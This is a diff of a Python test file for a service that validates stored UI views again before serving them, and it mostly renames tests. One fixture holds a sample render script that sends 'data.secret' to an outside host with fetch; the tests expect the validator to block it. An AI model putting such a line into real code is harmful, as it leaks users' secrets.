@@ -1,4 +1,4 @@
-"""Views that were made once: served to the tools that they were made for, after another look at them."""
+"""Frozen views are validated again, and served only to the tools for which they were made."""
 
 import pytest
 from attrs import define, evolve
@@ -50,7 +50,7 @@ def frozen_views(text="a view", **changed):
 
 @define
 class Maker:
-    """Serves frozen views, with the parts that tests look at."""
+    """A `FrozenMaker`, with its services that tests inspect."""
 
     validator: object
     event_log: RecordingEventLog
@@ -80,7 +80,7 @@ async def test_a_view_is_served_as_it_was_made_and_keeps_its_key():
     assert made.event_log.events == []
 
 
-async def test_what_the_validator_mends_is_served_mended():
+async def test_a_view_that_the_validator_repairs_is_served_repaired():
     assert (await maker("sloppy view").view(Facts(tool=TOOL), "now")).source == "sloppy view"
 
 
@@ -93,7 +93,7 @@ async def test_what_the_validator_mends_is_served_mended():
         ("a view", {"template_version": "0"}, "version 0 of the page"),
     ],
 )
-async def test_a_view_that_cannot_be_served_is_the_minimal_ui_and_why_is_told(source, changed, words):
+async def test_a_view_that_cannot_be_served_gives_the_minimal_view_with_the_reason(source, changed, words):
     made = maker(source, **changed)
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.source) == (ViewState.MINIMAL, "")
@@ -121,7 +121,7 @@ function render(data, ui) { fetch("https://example.org/" + data.secret); }
 </script>"""
 
 
-async def test_somebody_elses_view_is_validated_as_strictly_as_a_models():
+async def test_a_third_partys_view_is_validated_as_strictly_as_a_models():
     made = maker(HOSTILE, InProcessValidator(), source=evolve(WRITTEN, mode="fragment"))
     assert (await made.view(Facts(tool=TOOL), "now")).source == ""
     assert "checks of views" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
@@ -131,22 +131,22 @@ async def test_somebody_elses_view_is_validated_as_strictly_as_a_models():
 
 
 @pytest.mark.parametrize(("tool", "words"), [(CHANGED, "another definition"), (OTHER, "no view of it")])
-async def test_other_tools_have_no_frozen_view_and_why_is_told(tool, words):
+async def test_other_tools_have_no_frozen_view_and_the_log_says_why(tool, words):
     made = maker()
     assert made.key(tool) is None
     assert await made.view(Facts(tool=tool), "now") is None
     assert words in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
 
 
-async def test_a_tool_whose_ui_was_the_minimal_one_keeps_it_without_a_word():
+async def test_a_tool_with_an_exported_minimal_view_keeps_it_without_a_reason():
     made = maker(source=None, ui_type="minimal")
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.source) == (ViewState.MINIMAL, "")
     assert (made.validator.contexts, made.event_log.events) == ([], [])
 
 
-async def test_a_frozen_view_needs_no_model_until_a_refinement_changes_its_key(workshop):
-    place = workshop("another view", frozen=frozen_views())
+async def test_a_frozen_view_needs_no_model_until_a_refinement_changes_its_key(open_service):
+    place = open_service("another view", frozen=frozen_views())
     view = await place.read(TOOL)
     assert (view.source, place.asked, place.changes) == ("a view", 0, [])
     assert (await place.read(TOOL)) is view
